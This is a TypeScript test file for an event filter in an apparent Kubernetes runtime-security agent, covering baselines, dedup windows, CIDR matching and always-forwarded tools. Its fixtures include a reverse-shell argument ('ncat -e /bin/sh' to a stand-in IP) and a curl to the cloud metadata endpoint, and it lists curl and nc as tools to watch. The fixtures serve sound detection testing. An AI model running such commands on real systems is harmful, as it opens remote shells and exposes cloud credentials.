import t from 'tap';
import { EdgeFilter } from '../../../agent/filter/edge-filter.js';
import type { EdgeBaseline } from '../../../common/edge-baseline.js';
import { INGEST_SERVICE, edgeBaselineFromWire, edgeBaselineToWire } from '../../../common/wire.js';
import { DIGEST, MIN, T0, WEB, exec, net } from '../../helpers/detection.js';

function baseline(allow: string[], phase: EdgeBaseline['phase'] = 'active', workload = WEB): EdgeBaseline {
  return { workload, hash: allow.join(',') + phase, phase, allow, learningDedupWindowMs: MIN, alwaysSend: [] };
}

t.test('drops what the baseline allows, sends the rest, counts both', async (t) => {
  const f = new EdgeFilter();
  f.replaceAll([
    baseline([
      'p|/usr/sbin/nginx',
      `i|${DIGEST}`,
      'n|egress|tcp|8080|ip|10.96.12.40',
      'n|egress|tcp|443|net|203.0.113.0/24',
      'n|ingress|tcp|80|net|10.244.0.0/16',
      'n|ingress|tcp|80|net|fd00:10:244::/56',
      'n|egress|tcp|5432|lo',
      'n|listen|tcp|80|-',
    ]),
  ]);
  t.notOk(f.shouldSend(exec('/usr/sbin/nginx', { time: T0 })), 'allowed exe');
  t.ok(f.shouldSend(exec('/bin/sh', { time: T0 })), 'new exe');
  t.notOk(f.shouldSend(net('egress', { time: T0, peer: '10.96.12.40', port: 8080 })), 'exact service');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.12.41', port: 8080 })), 'another service');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.12.40', port: 8081 })), 'another port');
  t.notOk(f.shouldSend(net('egress', { time: T0, peer: '203.0.113.200', port: 443 })), 'inside the learned /24');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '203.0.114.1', port: 443 })), 'outside it');
  t.notOk(f.shouldSend(net('ingress', { time: T0, peer: '10.244.7.7', port: 80 })), 'a pod client (configured pod range)');
  t.notOk(f.shouldSend(net('ingress', { time: T0, peer: 'fd00:10:244::9', port: 80 })), 'IPv6 pod client');
  t.ok(f.shouldSend(net('ingress', { time: T0, peer: '198.51.100.1', port: 80 })), 'an external client');
  t.notOk(f.shouldSend(net('egress', { time: T0, peer: '127.0.0.1', port: 5432 })), 'loopback');
  t.notOk(f.shouldSend(net('listen', { time: T0, port: 80 })), 'known listen');
  t.ok(f.shouldSend(net('listen', { time: T0, port: 6060 })), 'new listen');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.12.40', port: 8080, protocol: 'udp' })), 'other protocol');
  t.same(f.stats(), { matched: 7, deduplicated: 0, sent: 7, workloads: 1, baselines: 1 });
});

t.test('conservative: exec sessions, unknown images and unknown workloads are always sent', async (t) => {
  const f = new EdgeFilter();
  f.replaceAll([baseline(['p|/bin/bash', `i|${DIGEST}`])]);
  t.ok(f.shouldSend(exec('/bin/bash', { time: T0, process: { inInitTree: false, sessionId: 's1' } })), 'kubectl exec');
  t.ok(f.shouldSend(exec('/bin/bash', { time: T0, digest: 'sha256:' + 'b'.repeat(64) })), 'a new image digest may start a new generation');
  t.notOk(f.shouldSend(exec('/bin/bash', { time: T0, digest: null })), 'digest unknown: the baseline still applies');
  t.ok(f.shouldSend(exec('/bin/bash', { time: T0, workload: { ...WEB, name: 'other' } })), 'no baseline pushed');
});

t.test('while learning: each distinct item once per dedup window of event time', async (t) => {
  const f = new EdgeFilter();
  f.upsert(baseline(['p|/usr/sbin/nginx'], 'learning'));
  t.notOk(f.shouldSend(exec('/usr/sbin/nginx', { time: T0 })), 'already learned: dropped');
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 })), 'first sighting');
  t.notOk(f.shouldSend(exec('/bin/find', { time: T0 + 30_000 })), 'within the window');
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 + MIN })), 'next window');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '1.1.1.1', port: 443 })));
  t.notOk(f.shouldSend(net('egress', { time: T0 + 1, peer: '1.1.1.1', port: 443 })));
  t.ok(f.shouldSend(net('egress', { time: T0 + 2, peer: '1.1.1.2', port: 443 })), 'another peer is another item');
  t.ok(f.shouldSend(net('egress', { time: T0 + 3, peer: '1.1.1.1', port: 444 })), 'another port is another item');
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 - 5 * MIN })), 'out-of-order event time: sent');
  t.equal(f.stats().deduplicated, 2);

  f.upsert(baseline(['p|/usr/sbin/nginx'], 'active'));
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 + MIN + 1 })), 'active: everything new is sent, every time');
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 + MIN + 2 })));
});

t.test('while learning: exes an argument-sensitive rule names are never deduplicated', async (t) => {
  const f = new EdgeFilter();
  f.upsert({ ...baseline([], 'learning'), hash: 'h-always', alwaysSend: ['/usr/bin/curl', '/bin/nc*'] });
  t.ok(f.shouldSend(exec('/usr/bin/curl', { time: T0, args: '-s https://example.com' })));
  t.ok(f.shouldSend(exec('/usr/bin/curl', { time: T0 + 1, args: '-s http://169.254.169.254/latest/meta-data' })), 'the next run may be the denied one');
  t.ok(f.shouldSend(exec('/bin/ncat', { time: T0 + 2 })));
  t.ok(f.shouldSend(exec('/bin/ncat', { time: T0 + 3, args: '-e /bin/sh 1.2.3.4 25' })), 'a glob names it');
  t.ok(f.shouldSend(exec('/bin/find', { time: T0 + 4 })));
  t.notOk(f.shouldSend(exec('/bin/find', { time: T0 + 5 })), 'other exes are still deduplicated');
  t.equal(f.stats().deduplicated, 1);
});

t.test('alwaysSend crosses the wire; a collector that does not send it means none', async (t) => {
  const { responseSerialize, responseDeserialize } = INGEST_SERVICE.connect;
  const b = { ...baseline(['p|/x'], 'learning'), alwaysSend: ['/usr/bin/curl', '/bin/nc*'] };
  const decoded = responseDeserialize(responseSerialize({ snapshot: { version: 1, baselines: [edgeBaselineToWire(b)] } }));
  t.same(edgeBaselineFromWire(decoded.snapshot!.baselines[0]!).alwaysSend, b.alwaysSend);
  const old = responseDeserialize(responseSerialize({ snapshot: { version: 1, baselines: [{ ...edgeBaselineToWire(b), alwaysSend: [] }] } }));
  t.same(edgeBaselineFromWire(old.snapshot!.baselines[0]!).alwaysSend, []);
});

t.test('bounded dedup table fails open', async (t) => {
  const f = new EdgeFilter({ maxDedupEntriesPerWorkload: 3 });
  f.upsert(baseline([], 'learning'));
  for (const exe of ['/a', '/b', '/c', '/d']) t.ok(f.shouldSend(exec(exe, { time: T0 })));
  t.ok(f.shouldSend(exec('/a', { time: T0 + 1 })), 'forgotten after the table filled: sent again');
});

t.test('snapshots replace, deltas upsert and remove; lookups by identity or by fields', async (t) => {
  const f = new EdgeFilter();
  const other = { ...WEB, name: 'api', container: 'api' };
  f.replaceAll([baseline(['p|/x']), baseline(['p|/y'], 'active', other)]);
  const interned = exec('/x', { time: T0 });
  t.notOk(f.shouldSend(interned));
  t.notOk(f.shouldSend(interned), 'second lookup through the identity cache');
  t.notOk(f.shouldSend(exec('/y', { time: T0, workload: { ...other } })), 'a fresh WorkloadId object with the same fields');
  t.equal(f.hashOf(other), 'p|/yactive');
  f.replaceAll([baseline(['p|/x'])]);
  t.ok(f.shouldSend(exec('/y', { time: T0, workload: other })), 'dropped from the snapshot: sent');
  f.upsert([baseline(['p|/z'])]);
  t.ok(f.shouldSend(interned), 'replaced allow set applies to cached lookups too');
  f.remove(WEB);
  t.ok(f.shouldSend(exec('/z', { time: T0 })));
  t.equal(f.stats().baselines, 0);
  t.equal(f.hashOf(WEB), undefined);
});

t.test('keys the filter does not understand are ignored, never trusted', async (t) => {
  const f = new EdgeFilter();
  f.upsert(baseline(['n|egress|tcp|80|wl|a/Deployment/b', 'garbage', 'n|egress|tcp|80|net|not-a-cidr']));
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.244.1.1', port: 80 })));
});

t.test('learning dedup is bounded over all workloads too, and fails open', async (t) => {
  const f = new EdgeFilter({ maxDedupEntries: 4 });
  const a = { ...WEB, name: 'a' };
  const b = { ...WEB, name: 'b' };
  f.upsert([baseline([], 'learning', a), baseline([], 'learning', b)]);
  for (const exe of ['/1', '/2', '/3']) t.ok(f.shouldSend(exec(exe, { time: T0, workload: a })));
  t.ok(f.shouldSend(exec('/x', { time: T0, workload: b })), 'the fourth entry fits');
  t.notOk(f.shouldSend(exec('/1', { time: T0 + 1, workload: a })), 'still remembered');
  t.ok(f.shouldSend(exec('/y', { time: T0, workload: b })), 'over the total bound: b starts over');
  t.notOk(f.shouldSend(exec('/y', { time: T0 + 1, workload: b })));
  t.ok(f.shouldSend(exec('/x', { time: T0 + 1, workload: b })), 'forgotten: sent again (never dropped unseen)');
});

t.test('items equal in every field but one are different items', async (t) => {
  const f = new EdgeFilter();
  f.upsert(baseline(['p|/usr/bin/a|b', 'n|egress|tcp|443|ip|10.96.0.1', 'n|egress|tcp|*|ip|10.96.0.2']));
  t.ok(f.shouldSend(exec('/usr/bin/a', { time: T0 })));
  t.ok(f.shouldSend(exec('/usr/bin/a%7Cb', { time: T0 })), 'the escaped form is not the path');
  t.notOk(f.shouldSend(exec('/usr/bin/a|b', { time: T0 })), 'a path with | is unescaped from its key');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.0.1', port: 443, protocol: 'udp' })));
  t.ok(f.shouldSend(net('ingress', { time: T0, peer: '10.96.0.1', port: 443 })));
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.0.1', port: 444 })));
  t.notOk(f.shouldSend({ ...net('egress', { time: T0, peer: '10.96.0.2', port: 1 }), peerPort: null }), 'unknown port matches only the * item');
  t.ok(f.shouldSend(net('egress', { time: T0, peer: '10.96.0.2', port: 0 })), 'port 0 is not the unknown port');
});

t.test('the first observation of each Job run is sent even when allowed: the collector counts runs', async (t) => {
  const job = { ...WEB, kind: 'CronJob' as const, name: 'nightly', container: 'report' };
  const f = new EdgeFilter();
  f.replaceAll([baseline(['p|/app/report'], 'active', job)]);
  const inRun = (run: string, time: number) => ({ ...exec('/app/report', { time, workload: job }), run });
  t.equal(f.shouldSend(inRun('nightly-1', T0)), true, 'a new run: sent');
  t.equal(f.shouldSend(inRun('nightly-1', T0 + MIN)), false, 'the rest of that run: allowed, dropped');
  t.equal(f.shouldSend(inRun('nightly-2', T0 + 60 * MIN)), true, 'the next run: sent');
  t.equal(f.shouldSend(exec('/app/report', { time: T0, workload: job })), false, 'no run (an older agent path): as before');
});
